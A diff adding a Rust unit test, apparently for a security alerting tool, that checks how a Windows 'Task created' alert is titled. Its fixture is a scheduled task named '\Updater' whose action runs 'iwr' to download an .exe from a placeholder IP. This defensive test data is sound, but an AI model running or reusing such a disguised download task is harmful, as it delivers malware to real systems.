@@ -216,6 +216,26 @@ fn a_task_is_shown_with_what_it_fetches_and_not_with_the_names_of_its_xml() {
 }
 
 #[test]
+fn what_a_task_fetches_stands_before_what_is_told_of_it() {
+    let told = "See http://docs.example/ &lt;Actions&gt; http://notes.example/";
+    let fetch = "<Actions><Exec><Arguments>iwr http://203.0.113.66/a.exe</Arguments></Exec></Actions>";
+    let content = format!("<Task><Description>{told}</Description>{fetch}</Task>");
+    let escaped = content.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;");
+    for content in [content, escaped] {
+        let alert = of(
+            "Task created",
+            windows(json!({"taskName": r"\\Updater", "taskContent": content})),
+        );
+        assert_titles(&[(
+            alert.clone(),
+            r"Task created | web01 | \Updater http://203.0.113.66/a.exe",
+        )]);
+        let description = mapped(&alert).description.unwrap();
+        assert!(description.contains("URL: http://docs.example/"), "{description}");
+    }
+}
+
+#[test]
 fn a_group_stands_beside_who_came_into_it() {
     let change = |member: &str| {
         let mut alert = of(
